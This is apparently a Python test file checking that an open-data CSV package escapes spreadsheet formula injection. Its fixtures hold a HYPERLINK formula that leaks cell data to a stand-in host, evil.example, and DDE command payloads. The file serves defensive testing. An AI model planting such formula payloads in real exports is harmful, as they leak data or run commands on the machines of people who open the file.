"""Text that a spreadsheet would run as a formula reaches the CSV package as plain text."""
import csv
import io
import zipfile

import pytest

from opendata.package import write_package
from tests.factories import make_program

pytestmark = pytest.mark.django_db


def package_tables() -> dict[str, list[dict]]:
    with zipfile.ZipFile(write_package()) as bundle:
        return {
            name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(bundle.read(name).decode("utf-8"))))
            for name in bundle.namelist() if name.endswith(".csv")
        }


def test_formulas_in_imported_text_are_not_run_by_a_spreadsheet():
    make_program(
        name='=HYPERLINK("https://evil.example/steal?d="&A1,"Click for help")',
        description="+cmd|' /C calc'!A0",
        organization="@SUM(1+1)*cmd|' /C calc'!A0",
        longitude=-78.4767,
    )
    make_program(name="-2+3 Recovery", description="\tTabbed start")
    tables = package_tables()

    names = {row["name"] for row in tables["services"]}
    assert "'=HYPERLINK(\"https://evil.example/steal?d=\"&A1,\"Click for help\")" in names
    assert "'-2+3 Recovery" in names
    assert {row["description"] for row in tables["services"]} >= {"'+cmd|' /C calc'!A0", "'\tTabbed start"}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {row["name"] for row in tables["organizations"]}
    for table in tables.values():
        for row in table:
            for value in row.values():
                assert not (value or " ").startswith(("=", "+", "@", "\t", "\r")), value

    # Numbers stay numbers: a negative longitude is not a formula.
    assert "-78.4767" in {row["longitude"] for row in tables["locations"]}
